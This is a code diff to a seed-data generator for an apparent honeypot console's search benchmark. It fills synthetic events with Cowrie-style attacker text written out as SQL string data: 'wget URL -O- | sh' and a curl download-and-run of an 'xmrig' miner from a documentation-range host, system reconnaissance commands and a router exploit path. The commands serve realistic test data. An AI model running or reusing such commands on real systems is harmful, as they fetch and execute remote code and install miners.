@@ -72,9 +72,11 @@ const USERNAMES = ["root", "admin", "ubuntu", "test", "oracle", "pi", "user", "p
 /** What an event of each type carries; `__USER__` stands for the incident's username. */
 const INPUTS: Record<string, Record<string, unknown>> = {
   "ssh.session": { clientVersion: "SSH-2.0-libssh2_1.9.0" },
-  "ssh.command": { command: "uname -a; cat /proc/cpuinfo" },
-  "http.request": { path: "/wp-login.php", userAgent: "Mozilla/5.0 zgrab/0.x" },
-  "smb.file_open": { filename: "finance-2026.xlsx" },
+  // Placeholders the SQL generator fills per event (EVENT_TEXTS), so search has realistic attacker text to index:
+  // downloads of varied URLs, a hash per event, varied paths and file names.
+  "ssh.command": { command: "__CMD__", url: "__URL__", shasum: "__HASH__" },
+  "http.request": { path: "__PATH__", userAgent: "Mozilla/5.0 zgrab/0.x" },
+  "smb.file_open": { filename: "__FILE__" },
   "portscan.syn": {},
 }
 const LOGIN_INPUT = {
@@ -257,13 +259,33 @@ create or replace function bench_ulid(ms bigint) returns text language sql volat
       || upper(substr(md5(random()::text), 1, 16))
 $$`
 
+/**
+ * The varied attacker text of an event (Cowrie-like commands with a download URL and a hash, web paths, file names),
+ * for the search benchmark (bench/console-search.ts): one command in 1,000 fetches "xmrig" (a rare term), each event
+ * has a hash of its own (sha256-shaped), the URLs spread over 254 hosts and 50 file names. No quote or backslash, so
+ * the text drops into the JSON templates as it is.
+ */
+const EVENT_TEXTS = `cross join lateral (
+  select u.url, u.hash,
+    case when g.n % 1000 = 7 then 'curl -s ' || u.url || ' -o /tmp/.xmrig; chmod +x /tmp/.xmrig; /tmp/.xmrig'
+         when g.n % 3 = 0 then 'uname -a; cat /proc/cpuinfo'
+         else 'cd /tmp; wget ' || u.url || ' -O- | sh; rm -f x' || (g.n % 50) || '.sh' end as cmd,
+    case when g.n % 4 = 0 then '/wp-login.php' else '/cgi-bin/luci/;stok=/locale?form=country&n=' || (g.n % 997) end
+      as path,
+    'finance-' || (g.n % 500) || '.xlsx' as file
+  from (select 'http://198.51.100.' || (1 + (g.n * 31) % 254) || '/bins/x' || (g.n % 50) || '.sh' as url,
+          md5(i.id || '-' || g.n) || md5(g.n || '-' || i.id) as hash) u
+) x`
+
 const EVENTS_FROM_INCIDENTS = `
 insert into events (id, org_id, incident_id, sensor_id, sensor_event_id, time, source_ip, source_port, service, port,
                     type, action, severity, confidence, tags, summary, attacker_input, received_at)
 select 'evt_' || bench_ulid(g.ms), i.org_id, i.id, i.sensor_id, 'seed-' || i.id || '-' || g.n, g.t, i.source_ip,
        1024 + (g.n * 7919) % 60000, ty.service, ty.port, ty.type, ty.action, ty.severity, ty.confidence, '{}',
-       replace(replace(ty.summary, '__SRCIP__', i.source_ip), '__USER__', coalesce(i.usernames[1], '')),
-       replace(ty.input, '__USER__', coalesce(i.usernames[1], ''))::jsonb,
+       replace(replace(replace(replace(replace(ty.summary, '__SRCIP__', i.source_ip), '__USER__',
+         coalesce(i.usernames[1], '')), '__CMD__', x.cmd), '__PATH__', x.path), '__FILE__', x.file),
+       replace(replace(replace(replace(replace(replace(ty.input, '__USER__', coalesce(i.usernames[1], '')), '__CMD__',
+         x.cmd), '__URL__', x.url), '__HASH__', x.hash), '__PATH__', x.path), '__FILE__', x.file)::jsonb,
        g.t + interval '1 second'
 from incidents i
 cross join lateral (
@@ -273,6 +295,7 @@ cross join lateral (
                   + ((extract(epoch from i.last_seen_at - i.first_seen_at) * 1000)::bigint * (n - 1))
                     / greatest(i.event_count - 1, 1) as ms) m
 ) g
+${EVENT_TEXTS}
 join bench_types ty on ty.type = i.event_types[1 + (g.n - 1) % cardinality(i.event_types)]
 where i.id in (select jsonb_array_elements_text(($1::text)::jsonb))`
 
